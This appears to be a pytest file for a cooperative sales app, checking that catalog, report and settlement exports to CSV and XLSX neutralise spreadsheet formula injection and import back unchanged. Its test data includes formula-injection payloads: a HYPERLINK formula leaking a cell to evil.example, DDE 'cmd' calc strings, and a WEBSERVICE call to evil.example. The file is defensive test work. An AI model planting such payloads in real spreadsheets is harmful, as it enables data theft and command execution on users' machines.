"""Exports never write a live spreadsheet formula (CSV/XLSX injection), and a catalog
exported then imported again keeps its names exactly."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from coopos.cli.render import render_table
from coopos.db.models import Cooperative, Product
from coopos.domain import consignment as rules
from coopos.printing import statements
from coopos.services import catalog
from coopos.services.reports import Column, Table
from coopos.spreadsheet import protect, unprotect

# (names are stripped when saved, so a leading tab or CR only reaches other exports)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "#N/A",
]
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _rename(ctx, names: list[str]) -> list[str]:
    """Give the first products (by SKU) hostile French names and a hostile Arabic one."""
    with ctx.write() as uow:
        products = uow.session.execute(select(Product).order_by(Product.sku)).scalars().all()
        skus = []
        for product, name in zip(products, names, strict=False):
            product.name_fr = name
            product.name_ar = name + " ar"
            skus.append(product.sku)
        coop = uow.session.execute(select(Cooperative).order_by(Cooperative.code)).scalar()
        coop.name_fr = "=1+2"
    return skus


def _cells_of_csv(path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert(cell: str) -> None:
    assert not cell.startswith(STARTS_A_FORMULA), repr(cell)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_catalog_export_is_inert_and_round_trips(demo, tmp_path, suffix):
    skus = _rename(demo, HOSTILE)
    path = tmp_path / f"catalog{suffix}"
    catalog.export_catalog(demo, path)
    if suffix == ".csv":
        for cell in _cells_of_csv(path):
            _assert_inert(cell)
        assert "'=HYPERLINK(" in path.read_text(encoding="utf-8-sig")
    else:
        sheet = load_workbook(path).worksheets[0]
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                _assert_inert(cell.value)
    # the import removes exactly the quote the export added: nothing changes
    summary = catalog.import_catalog(demo, path)
    assert (summary.created, summary.updated) == (0, 0)
    with demo.read() as s:
        names = {
            p.sku: p.name_fr
            for p in s.execute(select(Product).where(Product.sku.in_(skus))).scalars()
        }
    assert [names[sku] for sku in skus] == HOSTILE


def test_a_quote_typed_by_the_user_is_kept_on_import(ctx, tmp_path):
    """Only the protection is removed: a name that starts with a quote, but not with a
    formula after it, is imported as written."""
    path = tmp_path / "c.csv"
    path.write_text(
        "sku,name_fr,cooperative,price,vat_rate\nQ1,'Ain Leuh,C,10,20\nQ2,'=x,C,10,20\n",
        encoding="utf-8",
    )
    catalog.import_catalog(ctx, path)
    with ctx.read() as s:
        names = dict(s.execute(select(Product.sku, Product.name_fr)).all())
    assert names == {"Q1": "'Ain Leuh", "Q2": "=x"}


@given(st.text(max_size=12))
def test_protect_is_reversible_and_inert(text):
    protected = protect(text)
    assert unprotect(protected) == text
    if protected.startswith(STARTS_A_FORMULA):
        # only a plain number may start with a sign: a spreadsheet reads it as a number
        float(protected.replace(",", "."))


def test_report_csv_protects_text_and_keeps_numbers():
    table = Table(
        "t",
        [Column("name", "Name"), Column("amount", "Amount", "money")],
        [
            {"name": "=1+1", "amount": -1250},
            {"name": "@x", "amount": 300},
            {"name": "\t=1+1", "amount": 0},
        ],
    )
    rows = list(csv.reader(io.StringIO(render_table(table, "csv"))))
    assert rows[1:] == [["'=1+1", "-12.50"], ["'@x", "3.00"], ["'\t=1+1", "0.00"]]


def _statement() -> rules.Statement:
    line = rules.Line(
        receipt_no="T01-000001",
        kind="sale",
        day="2026-11-20",
        sku="-SKU",
        name='=WEBSERVICE("http://evil.example")',
        cooperative="COOP",
        quantity=Decimal("2"),
        net_cents=12000,
        vat_rate=20,
        commission_cents=1200,
    )
    return rules.settle("COOP", "+title", [line], [])


def test_settlement_csv_and_xlsx_are_inert(tmp_path):
    statement = _statement()
    text = statements.statement_csv(statement, "fr")
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    for cell in cells:
        _assert_inert(cell)
    assert '\'=WEBSERVICE("http://evil.example")' in cells
    path = statements.save_statement_xlsx(statement, tmp_path / "s.xlsx", "fr")
    book = load_workbook(path)
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    _assert_inert(cell.value)
                    seen.append(cell.value)
    assert "'+title" in seen and "'-SKU" in seen
